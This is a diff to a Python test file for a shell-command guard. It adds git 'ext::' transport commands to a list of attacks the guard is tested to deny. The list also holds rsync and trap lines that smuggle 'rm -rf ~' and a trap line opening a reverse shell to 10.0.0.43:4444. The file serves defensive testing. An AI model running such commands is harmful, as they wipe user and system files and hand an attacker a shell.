@@ -56,6 +56,8 @@ ATTACKS = [
     "rsync -e 'sh -c \"rm -rf ~\" #' x: /tmp/y",
     "rsync --rsh='rm -rf ~ #' h:x y",
     "trap 'rm -rf ~' EXIT",
+    "git -c protocol.ext.allow=always clone 'ext::sh -c rm% -rf% ~' /tmp/r",
+    "git fetch 'ext::sh -c rm% -rf% /etc'",
     "trap -- 'rm -rf ~' EXIT",
     "trap 'bash -i >& /dev/tcp/10.0.0.43/4444 0>&1' INT TERM EXIT; sleep 1",
 ]
@@ -122,6 +124,7 @@ def test_look_alikes_are_not_denied(command: str, guards: dict[Mode, Guard], wor
         (("trap", "-p"), (), []),
         (("less", "f"), (("LESSOPEN", "| lesspipe %s"),), [("LESSOPEN=", " lesspipe %s")]),
         (("ssh", "-o", "StrictHostKeyChecking=no", "h"), (), []),
+        (("git", "clone", "ext::sh -c echo% a%%b", "d"), (), [("git clone ext::", "sh -c 'echo a%b'")]),
     ],
 )
 def test_table_finds_the_strings(argv: tuple[str, ...], assigns: tuple[tuple[str, str], ...],
